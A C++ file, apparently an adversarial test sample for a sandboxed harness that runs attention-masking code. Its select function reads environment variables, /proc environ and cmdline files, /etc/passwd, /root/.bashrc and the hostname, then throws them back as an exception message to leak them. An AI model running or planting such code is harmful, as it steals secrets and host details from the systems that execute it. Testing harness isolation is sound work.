// Class 1 and 6: collects everything of the trusted side it can find (its environment, /proc,
// files that name the run or the workload) and throws it back as its message.
#include <fcntl.h>
#include <unistd.h>

#include <stdexcept>
#include <string>

#include "masker_api.h"

extern char** environ;

void select(const adrs::Row& row, adrs::Selection& out) {
  if (row.layer != 0 || row.head != 0 || row.step != 0) {
    out.add(0);
    return;
  }
  std::string seen = "env:";
  for (char** e = environ; *e; ++e) seen += std::string(" ") + *e;
  for (const char* path : {"/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", "/etc/passwd",
                           "/etc/hostname", "/root/.bashrc"}) {
    const int fd = open(path, O_RDONLY);
    if (fd < 0) continue;
    char buffer[4096];
    const ssize_t n = read(fd, buffer, sizeof buffer);
    seen += std::string(" | ") + path + ": " + std::string(buffer, n > 0 ? static_cast<size_t>(n) : 0);
    close(fd);
  }
  char host[128] = "";
  gethostname(host, sizeof host);
  seen += std::string(" | host: ") + host;
  throw std::runtime_error(seen);
}
